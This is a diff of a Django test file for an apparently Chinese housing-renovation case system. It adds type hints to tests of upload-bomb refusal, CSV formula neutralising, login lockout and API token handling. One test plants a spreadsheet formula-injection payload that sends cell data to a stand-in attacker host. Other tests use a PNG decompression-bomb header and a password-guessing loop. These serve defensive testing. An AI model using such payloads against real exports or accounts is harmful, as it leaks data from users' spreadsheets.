@@ -14,6 +14,7 @@ import struct
 import tracemalloc
 import zipfile
 import zlib
+from collections.abc import Callable
 from typing import Any
 
 import openpyxl
@@ -25,14 +26,18 @@ from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 from PIL import Image
+from pytest_django import DjangoCaptureOnCommitCallbacks
 from rest_framework.test import APIClient
 
 from anju.accounts.choices import Role
-from anju.accounts.models import ApiToken, UserRole
+from anju.accounts.models import ApiToken, User, UserRole
+from anju.appraisals.tests.conftest import DibaoHome
 from anju.archives import services as archive_services
 from anju.archives.models import ArchiveDocument
 from anju.audit.models import AuditAction, AuditEvent
 from anju.cases.choices import Stage
+from anju.cases.models import RenovationCase
+from anju.cases.tests.conftest import Officers
 from anju.core.tabular import TabularError, open_table
 from anju.households.choices import KeyGroup
 from anju.households.importjobs import start_list_preview
@@ -72,13 +77,13 @@ def jpeg(size: tuple[int, int], name: str = "scan.jpg") -> SimpleUploadedFile:
 
 
 @pytest.fixture
-def filed_case(case: Any, officers: dict[str, Any]) -> Any:
+def filed_case(case: RenovationCase, officers: Officers) -> RenovationCase:
     walk(case, officers, Stage.FILED)
     case.refresh_from_db()
     return case
 
 
-def test_a_144_megapixel_png_is_refused_before_it_is_decoded(filed_case, officers) -> None:
+def test_a_144_megapixel_png_is_refused_before_it_is_decoded(filed_case: RenovationCase, officers: Officers) -> None:
     bomb = SimpleUploadedFile("扫描件.png", png_header_only(12000, 12000), content_type="image/png")
     tracemalloc.start()
     with pytest.raises(ValidationError) as refused:
@@ -92,7 +97,9 @@ def test_a_144_megapixel_png_is_refused_before_it_is_decoded(filed_case, officer
     assert not ArchiveDocument.objects.filter(case=filed_case).exists()
 
 
-def test_an_oversized_scan_is_stored_scaled_down_keeping_the_original_hash(filed_case, officers) -> None:
+def test_an_oversized_scan_is_stored_scaled_down_keeping_the_original_hash(
+    filed_case: RenovationCase, officers: Officers
+) -> None:
     upload = jpeg((4800, 600), "户口本.jpg")
     original = upload.read()
     upload.seek(0)
@@ -115,7 +122,7 @@ def test_an_inspection_photo_of_absurd_size_is_refused_with_the_reason() -> None
         process_photo(bomb)
 
 
-def test_a_csv_export_never_hands_excel_a_formula(client, tl_clerk, regions) -> None:
+def test_a_csv_export_never_hands_excel_a_formula(client: Client, tl_clerk: User, regions: dict[str, Region]) -> None:
     planted = '=HYPERLINK("http://evil.example/?"&A1,"点")'
     household_create(
         acting_user=tl_clerk, region=regions["140405102201"], head_name=planted, head_id_number=make_id(81)
@@ -132,7 +139,13 @@ def test_a_csv_export_never_hands_excel_a_formula(client, tl_clerk, regions) -> 
 
 
 def test_a_ledger_made_as_a_job_is_its_starters_alone_checked_again_and_audited(
-    client, tl_county, tl_township, make_user, covered_home, monkeypatch, django_capture_on_commit_callbacks
+    client: Client,
+    tl_county: User,
+    tl_township: User,
+    make_user: Callable[..., User],
+    covered_home: DibaoHome,
+    monkeypatch: pytest.MonkeyPatch,
+    django_capture_on_commit_callbacks: DjangoCaptureOnCommitCallbacks,
 ) -> None:
     monkeypatch.setitem(ledger_services.DIRECT_LIMIT, "xlsx", 0)
     client.force_login(tl_county)
@@ -159,7 +172,7 @@ def test_a_ledger_made_as_a_job_is_its_starters_alone_checked_again_and_audited(
 
 
 def test_creating_a_house_out_of_region_answers_like_a_household_that_does_not_exist(
-    tl_clerk, ps_admin, regions
+    tl_clerk: User, ps_admin: User, regions: dict[str, Region]
 ) -> None:
     village = regions["140405102201"]
     with_house = household_create(acting_user=tl_clerk, region=village, head_name="甲", head_id_number=make_id(91))
@@ -175,7 +188,7 @@ def test_creating_a_house_out_of_region_answers_like_a_household_that_does_not_e
     assert len({a.content for a in answers}) == 1
 
 
-def test_a_nul_byte_or_an_impossible_number_in_a_request_is_a_400_in_chinese(client, tl_admin) -> None:
+def test_a_nul_byte_or_an_impossible_number_in_a_request_is_a_400_in_chinese(client: Client, tl_admin: User) -> None:
     client.force_login(tl_admin)
     for url in ("/api/tasks/?county=%00", "/households/?q=%00"):
         response = client.get(url)
@@ -201,7 +214,7 @@ TODAY = datetime.date(2026, 12, 5)
 
 
 @pytest.fixture
-def civil(make_user: Any) -> Any:
+def civil(make_user: Callable[..., User]) -> User:
     return make_user("civil", "140405000000", Role.CIVIL_AFFAIRS)
 
 
@@ -360,7 +373,7 @@ def test_the_original_file_is_masked_for_a_city_officer_and_audited_for_everyone
     county = make_user("county", "140405000000", Role.COUNTY_OFFICER)
     client.force_login(county)
     response = client.get(url)
-    assert b"".join(response.streaming_content) == data
+    assert response.getvalue() == data
     exports = AuditEvent.objects.filter(action="export", object_type="households.listimport.original")
     assert {(e.actor_username, e.changes["filters"]["after"]["copy"]) for e in exports} == {
         ("city", "脱敏副本"),
@@ -376,7 +389,7 @@ def test_the_original_file_is_masked_for_a_city_officer_and_audited_for_everyone
 @pytest.fixture
 def two_xijie(regions: dict[str, Region]) -> tuple[Region, Region]:
     """西街村委会 in 麟绛街道 and in 余吾镇 (the same name in two towns, as in 屯留区's neighbours)."""
-    made = {}
+    made: dict[str, Region] = {}
     for code, name, parent in (
         ("140405001000", "麟绛街道", "140405000000"),
         ("140405001201", "西街村委会", "140405001000"),
@@ -570,7 +583,7 @@ def me_with(token: str) -> Any:
     return client.get(reverse("api:me"))
 
 
-def test_a_token_stops_working_once_its_owner_changes_the_password(client, tl_clerk) -> None:
+def test_a_token_stops_working_once_its_owner_changes_the_password(client: Client, tl_clerk: User) -> None:
     token = ask_token("tl_clerk", "张三的手机").json()["token"]
     assert me_with(token).status_code == 200
     # The clerk suspects the phone was copied and changes the password on the web page.
@@ -584,7 +597,7 @@ def test_a_token_stops_working_once_its_owner_changes_the_password(client, tl_cl
     assert ask_token("tl_clerk", "张三的手机", password="Brand2024newpw").status_code == 201
 
 
-def test_a_token_stops_working_when_someone_locks_the_account_by_guessing(tl_clerk) -> None:
+def test_a_token_stops_working_when_someone_locks_the_account_by_guessing(tl_clerk: User) -> None:
     token = ask_token("tl_clerk", "张三的手机").json()["token"]
     answers = [ask_token("tl_clerk", "猜密码", password=f"guess-2024-{n}").status_code for n in range(5)]
     assert settings.AXES_FAILURE_LIMIT == 5 and answers == [400, 400, 400, 400, 429]  # locked at the fifth
@@ -596,7 +609,9 @@ def test_a_token_stops_working_when_someone_locks_the_account_by_guessing(tl_cle
     assert page.status_code == 429
 
 
-def test_a_token_stops_working_when_the_admin_deactivates_the_user(client, tl_admin, tl_clerk) -> None:
+def test_a_token_stops_working_when_the_admin_deactivates_the_user(
+    client: Client, tl_admin: User, tl_clerk: User
+) -> None:
     token = ask_token("tl_clerk", "张三的手机").json()["token"]
     client.force_login(tl_admin)
     client.post(
@@ -615,7 +630,7 @@ def test_a_token_stops_working_when_the_admin_deactivates_the_user(client, tl_ad
     assert ask_token("tl_clerk", "张三的手机").status_code == 400
 
 
-def test_a_token_expires(tl_clerk) -> None:
+def test_a_token_expires(tl_clerk: User) -> None:
     body = ask_token("tl_clerk", "张三的手机").json()
     expiry = datetime.datetime.fromisoformat(body["expiry"])
     assert datetime.timedelta(days=29) < expiry - timezone.now() <= datetime.timedelta(days=30)
@@ -625,7 +640,7 @@ def test_a_token_expires(tl_clerk) -> None:
     assert not ApiToken.objects.filter(pk=body["id"]).exists()  # knox drops it on sight
 
 
-def test_two_devices_two_tokens_one_revoked_by_the_user_one_by_the_admin(tl_admin, tl_clerk) -> None:
+def test_two_devices_two_tokens_one_revoked_by_the_user_one_by_the_admin(tl_admin: User, tl_clerk: User) -> None:
     phone = ask_token("tl_clerk", "张三的手机").json()
     tablet = ask_token("tl_clerk", "村委会平板").json()
     assert phone["token"] != tablet["token"]
@@ -643,17 +658,19 @@ def test_two_devices_two_tokens_one_revoked_by_the_user_one_by_the_admin(tl_admi
     assert notes == ["吊销接口令牌：本人吊销", "吊销接口令牌：管理员吊销"]
 
 
-def test_the_token_is_not_stored_and_issuing_it_is_audited(tl_clerk) -> None:
+def test_the_token_is_not_stored_and_issuing_it_is_audited(tl_clerk: User) -> None:
     body = ask_token("tl_clerk", "张三的手机").json()
     row = ApiToken.objects.get(pk=body["id"])
-    stored = " ".join(str(v) for v in ApiToken.objects.filter(pk=row.pk).values().first().values())
+    values = ApiToken.objects.filter(pk=row.pk).values().first()
+    assert values is not None
+    stored = " ".join(str(v) for v in values.values())
     assert body["token"] not in stored
     event = AuditEvent.objects.get(action=AuditAction.CREATE, object_type="accounts.apitoken")
     assert event.actor == tl_clerk and event.channel == "api" and "张三的手机" in event.object_repr
     assert body["token"] not in str(event.changes)
 
 
-def test_weak_passwords_are_refused_in_chinese(client, tl_admin, tl_clerk) -> None:
+def test_weak_passwords_are_refused_in_chinese(client: Client, tl_admin: User, tl_clerk: User) -> None:
     client.force_login(tl_admin)
     for password, message in (("aaaaaaaaaa1", "密码大部分是同一个字符"), ("woaini1314", "这个密码太常见了")):
         response = client.post(
